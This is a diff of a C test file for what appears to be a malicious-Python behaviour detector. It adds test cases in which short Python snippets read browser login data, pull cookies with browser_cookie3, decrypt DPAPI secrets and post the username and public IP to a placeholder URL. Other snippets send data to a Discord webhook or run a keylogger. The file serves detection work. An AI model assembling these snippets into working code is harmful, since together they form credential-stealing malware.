@@ -102,11 +102,16 @@ static void steals(void)
 	CHECK(shows("import platform, socket, requests\nd = {'h': "
 		    "socket.gethostname()}\nrequests.get(u, params=d)",
 		    MPY_BEH_HOST_SEND, 3));
-	/* asking for one's address sends nothing, sending the answer does */
+	/* asking for one's address sends nothing, sending the answer does; */
 	CHECK(lacks("import requests\nrequests.get('https://ident.me')",
-		    MPY_BEH_HOST_SEND));
+		    MPY_BEH_ADDRESS_SEND));
 	CHECK(shows("import requests\na = requests.get('https://ident.me')\n"
-		    "requests.post(u, data=a.text)", MPY_BEH_HOST_SEND, 3));
+		    "requests.post(u, data=a.text)", MPY_BEH_ADDRESS_SEND, 3));
+	/* beside who is logged in it is more */
+	CHECK(shows("import getpass, requests\nu = getpass.getuser()\n"
+		    "a = requests.get('https://ident.me')\n"
+		    "requests.post(x, data=[u, a.text])", MPY_BEH_HOST_SEND,
+		    4));
 	CHECK(shows("import requests\nw = 'https://discord.com/api/webhooks/"
 		    "1/x'\nrequests.post(w, json=d)", MPY_BEH_WEBHOOK_SEND,
 		    3));
@@ -118,7 +123,14 @@ static void steals(void)
 		    "keyboard.Listener(on_press=press).start()",
 		    MPY_BEH_KEYLOG_SEND, 3));
 	CHECK(shows("p = base + '\\\\Google\\\\Chrome\\\\User Data'",
+		    MPY_BEH_BROWSER_DATA, 1));
+	CHECK(shows("p = base + '\\\\Default\\\\Login Data'",
 		    MPY_BEH_BROWSER_THEFT, 1));
+	CHECK(shows("import browser_cookie3\nj = browser_cookie3.chrome()",
+		    MPY_BEH_BROWSER_COOKIES, 2));
+	CHECK(shows("import win32crypt\n"
+		    "k = win32crypt.CryptUnprotectData(b)[1]", MPY_BEH_DPAPI,
+		    2));
 }
 
 /* What is collected before it is sent is known to be in there. */
